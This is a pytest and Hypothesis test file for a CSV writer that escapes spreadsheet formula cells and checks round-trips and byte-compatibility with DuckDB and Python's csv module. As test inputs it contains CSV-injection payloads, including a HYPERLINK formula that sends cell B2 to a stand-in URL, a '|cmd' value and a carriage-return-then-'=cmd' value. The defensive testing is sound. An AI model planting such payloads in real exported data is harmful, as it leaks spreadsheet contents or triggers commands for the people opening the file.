"""The one CSV writer (contract/csvout.py): formula cells escaped and quoted, every value
given back by unescaping, numbers left alone, and the same bytes as before for normal data.

The oracle for "a spreadsheet would evaluate it" is tests/csvscan.py, written without the
writer's code; the old writers (DuckDB COPY, Python's csv module) are the oracle for bytes.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from csvscan import FORMULA_START, cells, evaluated, formula_cells
from headcount.contract.csvout import (
    escape_cell,
    format_row,
    text_field,
    unescape_cell,
    unescape_sql,
    write_rows,
    write_table,
)

HYPERLINK = '=HYPERLINK("http://x?"&B2)'
# Text rich in what matters here: formula characters, quotes, separators, line breaks.
TRICKY = st.sampled_from([*"=+-@|\t\r\n ',;\"a1.", "\uff1d", "\uff20", "é"])
texts = st.text(TRICKY, max_size=12) | st.text(max_size=12)


def risky(text: str) -> bool:
    """Starts, after apostrophes and spaces, with a formula character (numbers too: as
    text, "-1" is escaped)."""
    return text.lstrip("'").lstrip(" ")[:1] in FORMULA_START


normal_texts = texts.filter(lambda t: not risky(t))
amounts = st.decimals(min_value=-(10**6), max_value=10**6, places=2)


def _old_copy(table: pa.Table, path: Path) -> None:
    """report/outputs.py's write_csv before the one writer."""
    con = duckdb.connect()
    con.register("t", table)
    con.execute(f"COPY t TO '{path}' (HEADER, DELIMITER ',', QUOTE '\"')")
    con.close()


@pytest.mark.parametrize(
    ("value", "field"),
    [
        (HYPERLINK, '"\'=HYPERLINK(""http://x?""&B2)"'),
        ("+E2", '"\'+E2"'),
        ("-E3", '"\'-E3"'),
        ("@E4", '"\'@E4"'),
        ("\tx", '"\'\tx"'),
        ("\r=x", '"\'\r=x"'),
        ("|cmd", '"\'|cmd"'),
        ("\uff1dSUM(A1)", '"\'\uff1dSUM(A1)"'),
        ("  =1+1", '"\'  =1+1"'),
        ("'=1", "\"''=1\""),  # one more apostrophe, so unescaping is exact
        ("O'Brien", "O'Brien"),
        ("E0000001", "E0000001"),
        ("a,b", '"a,b"'),
        ('{"a": "=x"}', '"{""a"": ""=x""}"'),
        ("a=b", "a=b"),
    ],
)
def test_text_fields(value: str, field: str) -> None:
    assert text_field(value) == field
    assert unescape_cell(next(csv.reader([field]))[0]) == value


def test_numbers_stay_numbers_and_text_does_not() -> None:
    row = format_row(["-E3", Decimal("-12.50"), -7, None, "", "x"])
    assert row == '"\'-E3",-12.50,-7,,,x'
    assert formula_cells(row) == []


def test_a_carriage_return_inside_a_value_is_quoted() -> None:
    # csv.writer with "\n" line endings left it bare: a spreadsheet starts a row there.
    text = io.StringIO()
    write_rows(text, ["a", "b"], [["x\r=cmd", "y"]])
    assert text.getvalue() == 'a,b\n"x\r=cmd",y\n'
    assert formula_cells(text.getvalue()) == []


@given(texts)
def test_escape_round_trips_and_never_leaves_a_formula(value: str) -> None:
    safe = escape_cell(value)
    assert unescape_cell(safe) == value
    assert not evaluated(safe)
    assert (safe == value) == (not risky(value))


@given(normal_texts)
def test_normal_text_is_untouched(value: str) -> None:
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


@given(st.lists(st.lists(st.one_of(texts, amounts, st.none()), min_size=3, max_size=3)))
def test_rows_read_back_and_no_cell_is_evaluated(rows: list[list[object]]) -> None:
    out = io.StringIO()
    assert write_rows(out, ["a", "b", "c"], rows) == len(rows)  # type: ignore[arg-type]
    assert formula_cells(out.getvalue()) == []
    parsed = cells(out.getvalue())
    expected = [["" if v is None else str(v) for v in row] for row in rows]
    assert [[unescape_cell(c) for c in row] for row in parsed[1:]] == expected


@given(st.lists(st.lists(st.one_of(normal_texts, amounts, st.none()), min_size=3, max_size=3)))
def test_normal_rows_give_the_csv_modules_bytes(rows: list[list[object]]) -> None:
    ours, theirs = io.StringIO(), io.StringIO()
    write_rows(ours, ["a", "b", "c"], rows, newline="\r\n")  # type: ignore[arg-type]
    writer = csv.writer(theirs)
    writer.writerow(["a", "b", "c"])
    writer.writerows(rows)
    assert ours.getvalue() == theirs.getvalue()


def _table(strings: list[str | None], numbers: list[Decimal]) -> pa.Table:
    return pa.table(
        {
            "employee_id": pa.array(strings, pa.string()),
            "amount": pa.array(numbers, pa.decimal128(18, 2)),
            "n": pa.array(range(len(strings)), pa.int64()),
            "names": pa.array([[s] if s is not None else None for s in strings]),
        }
    )


Rows = list[tuple[str | None, Decimal]]
table_rows = st.lists(st.tuples(st.one_of(texts, st.none()), amounts), max_size=8)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=table_rows)
def test_tables_read_back_and_no_cell_is_evaluated(tmp_path: Path, rows: Rows) -> None:
    strings, numbers = [s for s, _ in rows], [a for _, a in rows]
    path = tmp_path / "t.csv"
    write_table(_table(strings, numbers), path)
    assert formula_cells(path) == []
    parsed = cells(path)
    assert parsed[0] == ["employee_id", "amount", "n", "names"]
    for (value, amount), got in zip(rows, parsed[1:], strict=True):
        assert unescape_cell(got[0]) == (value or "")  # NULL and '' both read as empty
        assert got[1] == f"{amount:.2f}"  # a number, as written by DuckDB: never escaped


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(st.one_of(normal_texts, st.none()), amounts), max_size=8))
def test_normal_tables_give_the_bytes_of_duckdbs_copy(tmp_path: Path, rows: Rows) -> None:
    table = _table([s for s, _ in rows], [a for _, a in rows])
    write_table(table, tmp_path / "new.csv")
    _old_copy(table, tmp_path / "old.csv")
    assert (tmp_path / "new.csv").read_bytes() == (tmp_path / "old.csv").read_bytes()


def test_a_negative_amount_stays_a_number(tmp_path: Path) -> None:
    write_table(_table(["-E3", "E4"], [Decimal("-12.50"), Decimal("3.00")]), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().splitlines()[1:] == [
        '"\'-E3",-12.50,0,[-E3]',
        "E4,3.00,1,[E4]",
    ]


@given(texts)
def test_unescape_in_sql_is_unescape_cell(value: str) -> None:
    got = duckdb.execute(f"SELECT {unescape_sql('CAST($1 AS VARCHAR)')}", [value]).fetchone()
    assert got == (unescape_cell(value),)
    escaped = duckdb.execute(
        f"SELECT {unescape_sql('CAST($1 AS VARCHAR)')}", [escape_cell(value)]
    ).fetchone()
    assert escaped == (value,)


def test_a_big_table_keeps_its_row_order(tmp_path: Path) -> None:
    """Many chunks, scanned in parallel: the file still lists the rows in table order."""
    n = 50_000
    chunk = pa.table({"id": [f"E{i:07d}" for i in range(n)], "k": pa.array(range(n))})
    table = pa.concat_tables(
        chunk.set_column(1, "k", pa.array(range(i * n, (i + 1) * n))) for i in range(8)
    )
    write_table(table, tmp_path / "big.csv")
    keys = [int(row[1]) for row in cells(tmp_path / "big.csv")[1:]]
    assert keys == list(range(8 * n))
